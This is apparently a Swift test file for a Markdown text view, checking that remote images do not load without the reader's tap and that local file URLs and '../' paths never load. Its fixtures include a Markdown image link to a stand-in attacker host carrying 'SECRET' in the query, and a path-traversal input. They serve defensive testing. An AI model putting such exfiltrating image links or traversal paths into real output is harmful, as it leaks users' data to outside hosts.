import Foundation
import LegibleAccessibility
import LegibleRendering
import LegibleTextKit
import LegibleUIKit
import Testing
@_spi(Testing) import UIKit

/// The view loads what its image policy allows: a remote image waits for the reader, who loads
/// it with a tap or VoiceOver's action; a document's local files never load.
@MainActor
@Suite("UIKit: image policy")
struct ImagePolicyViewTests {
    static let remote = "![Delivery map](https://attacker.example/pixel.png?q=SECRET)\n"

    @Test("by default a remote image shows its description and host, a tap on it loads it, and VoiceOver has an action for it")
    func askByDefault() async throws {
        let view = MarkdownTextView(markdown: Self.remote)
        view.core.layoutEngine = { document, width in CellLayout(document: document, options: CellLayoutOptions(width: Int(width))) }
        view.frame = CGRect(x: 0, y: 0, width: 80, height: 24)
        view.layoutSubviews()
        #expect(view.imagePolicy == .ask)
        let image = try #require(view.styledDocument.images.first)
        #expect(image.placeholder == "Delivery map (image from attacker.example, not loaded)")
        #expect(view.documentLayout.tapTarget(at: LayoutPoint(x: 3, y: 0))?.action == .loadImage("https://attacker.example/pixel.png?q=SECRET"))
        let element = try #require(view.readingModel.elements(.image).first)
        #expect(element.actions.map(\.name) == ["Load image from attacker.example"])
        #expect(element.actions.first?.kind == .loadImage)
        for _ in 0..<20 { await Task.yield() }
        #expect(view.images.isEmpty)
    }

    @Test("a document's file: URL and a path out of a file base's directory never load, even under allowAll; one inside it does")
    func localFiles() async throws {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("legible-policy-\(UUID().uuidString)", isDirectory: true)
        try FileManager.default.createDirectory(at: directory.appendingPathComponent("notes"), withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: directory) }
        try Data("secret".utf8).write(to: directory.appendingPathComponent("secret.png"))
        try Data("picture".utf8).write(to: directory.appendingPathComponent("notes/picture.png"))
        let view = MarkdownTextView(markdown: "")
        view.imagePolicy = .allowAll
        view.baseURL = directory.appendingPathComponent("notes/answer.md")
        let secret = directory.appendingPathComponent("secret.png").absoluteString
        view.append("![a](picture.png) ![b](../secret.png) ![c](\(secret))\n")
        view.displayFrame()
        for _ in 0..<200 where view.images.isEmpty { try await Task.sleep(for: .milliseconds(5)) }
        for _ in 0..<20 { await Task.yield() }
        #expect(Set(view.images.keys) == ["picture.png"])
    }

    @Test("images that arrive together are laid out once")
    func arrivalsTogether() async {
        var deliveries: [[String]] = []
        let arrivals = ImageArrivals<Int> { deliveries.append($0.keys.sorted()) }
        arrivals.arrive(1, for: "a.png")
        arrivals.arrive(2, for: "b.png")
        for _ in 0..<10 { await Task.yield() }
        arrivals.arrive(3, for: "c.png")
        for _ in 0..<10 { await Task.yield() }
        #expect(deliveries == [["a.png", "b.png"], ["c.png"]])
    }
}
